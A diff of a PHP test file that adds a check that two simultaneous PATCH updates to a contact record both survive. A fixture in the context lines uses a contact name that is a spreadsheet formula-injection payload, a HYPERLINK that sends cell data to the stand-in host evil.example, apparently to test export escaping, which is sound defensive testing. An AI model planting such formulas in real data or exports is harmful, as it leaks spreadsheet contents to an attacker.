@@ -242,6 +242,22 @@ final class Contacts_Test extends Site_Test_Case {
 		$this->assertSame( array( null, 2 ), array( Store::find_by_email( 'ada@example.com', false ), $this->count_rows( 'contacts' ) ) );
 	}
 
+	public function test_of_two_changes_at_once_neither_undoes_the_other(): void {
+		$ada   = $this->send( 'POST', '/contacts', array( 'email' => 'ada@example.com', 'attributes' => array( 'plan' => 'gold' ) ) )->get_data()['data']['id'];
+		$other = function ( string $sql ) use ( &$other, $ada ): string {
+			if ( preg_match( '/^UPDATE .*mxchat_contacts/', $sql ) ) {
+				remove_filter( 'query', $other );
+				$this->send( 'PATCH', "/contacts/$ada", array( 'phone' => '+44 1', 'attributes' => array( 'city' => 'London' ) ) );
+			}
+			return $sql;
+		};
+		add_filter( 'query', $other );
+		$changed = $this->send( 'PATCH', "/contacts/$ada", array( 'name' => 'Ada', 'attributes' => array( 'plan' => 'platinum' ) ) )->get_data()['data'];
+		remove_filter( 'query', $other );
+		$this->assertSame( array( 'Ada', '+44 1' ), array( $changed['name'], $changed['phone'] ) );
+		$this->assertEqualsCanonicalizing( array( 'plan' => 'platinum', 'city' => 'London' ), (array) $changed['attributes'] );
+	}
+
 	private function fill(): void {
 		Saving::insert( $this->contact( 'ada@example.com', 'Ada Lovelace', array(), true, '+44 1' ) );
 		Saving::insert( $this->contact( 'bob@example.org', '=HYPERLINK("http://evil.example/?"&A1)', array( 'note' => '@SUM(A1)' ) ) );
